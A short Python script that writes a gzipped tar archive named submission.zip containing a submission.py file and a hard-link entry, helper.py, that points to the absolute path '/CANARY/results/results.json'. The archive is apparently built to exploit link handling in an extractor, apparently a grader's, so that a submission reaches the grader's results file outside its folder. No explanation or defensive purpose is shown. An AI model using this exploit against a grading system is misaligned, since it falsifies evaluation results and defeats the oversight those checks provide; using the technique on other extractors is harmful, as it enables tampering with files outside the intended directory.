import gzip, io, sys, tarfile
def header(kind=b'0', size=3, name='submission.py', **more):
    entry = tarfile.TarInfo(name); entry.type, entry.size = kind, size
    for key, value in more.items(): setattr(entry, key, value)
    return entry.tobuf(tarfile.GNU_FORMAT)
def hand_in(data):
    open(sys.argv[1] + '/submission.zip', 'wb').write(gzip.compress(data + bytes(1024)))

hand_in(header() + b'x=1'.ljust(512, b'\0') + header(b'1', 0, 'helper.py', linkname='/CANARY/results/results.json'))
